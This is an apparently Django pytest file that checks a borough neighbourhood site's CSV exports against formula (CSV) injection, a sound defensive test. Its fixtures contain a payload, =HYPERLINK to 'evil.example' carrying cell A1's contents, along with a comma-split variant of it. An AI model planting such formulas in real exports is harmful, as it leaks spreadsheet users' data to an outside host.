"""The CSV downloads on the small borough (the postcodes, a neighbourhood's profile and the
comparison): what an Editor types never runs as a formula when the file is opened in a
spreadsheet (OWASP's CSV injection)."""

import csv
import io
import re

import pytest

from neighbourhoods.models import Neighbourhood

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
# The same formula after a comma: where the name is written unquoted (a comment line), a
# spreadsheet would make it a cell of its own.
AFTER_COMMA = "London Fields," + EVIL
# What a spreadsheet reads as a formula: a cell beginning with one of these, unless it is
# plainly a number (-0.065).
FORMULA_START = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")


def formula_cells(text: str) -> list[str]:
    """Every cell a spreadsheet would run, in every line of the file (the comment lines at
    its top too), split as a spreadsheet splits them."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if FORMULA_START.match(cell) and not NUMBER.fullmatch(cell)
    ]


def test_a_name_written_as_a_formula_is_text_in_the_postcode_csv(borough, client):
    """An Editor's neighbourhood name beginning with = must not run in a spreadsheet."""
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    Neighbourhood.objects.filter(pk=borough.london_fields.pk).update(name=evil)
    text = client.get("/api/v1/postcodes.csv").content.decode()
    rows = list(csv.DictReader(line for line in io.StringIO(text) if not line.startswith("#")))
    names = {row["neighbourhood"] for row in rows}
    assert "'" + evil in names
    assert not any(str(value).startswith("=") for row in rows for value in row.values())
    assert formula_cells(text) == []


# (the name an Editor gives London Fields, the comparison's cell, the profile's first line)
RENAMES = [
    (EVIL, "'" + EVIL, f"# Profile of {EVIL}. "),
    (AFTER_COMMA, AFTER_COMMA, f"# Profile of London Fields,'{EVIL}. "),
]


@pytest.fixture(params=RENAMES, ids=["formula", "formula-after-a-comma"])
def renamed(request, statistics):
    """London Fields renamed as an Editor renames it in the admin: a new boundary version,
    with the profiles worked out again under the new name."""
    name, in_comparison, profile_line = request.param
    london_fields = statistics.london_fields
    london_fields.name = name
    london_fields.save()
    return in_comparison, profile_line


def test_a_name_written_as_a_formula_is_text_in_the_profile_csv(client, renamed):
    _, profile_line = renamed
    response = client.get("/api/v1/neighbourhoods/london-fields/profile.csv")
    assert response.status_code == 200
    text = response.content.decode()
    assert formula_cells(text) == []
    assert text.startswith(profile_line)


def test_a_name_written_as_a_formula_is_text_in_the_comparison_csv(client, renamed):
    in_comparison, _ = renamed
    response = client.get("/neighbourhoods/compare.csv")
    assert response.status_code == 200
    text = response.content.decode()
    rows = list(csv.DictReader(line for line in text.splitlines() if not line.startswith("#")))
    assert in_comparison in [row["name"] for row in rows]
    assert formula_cells(text) == []
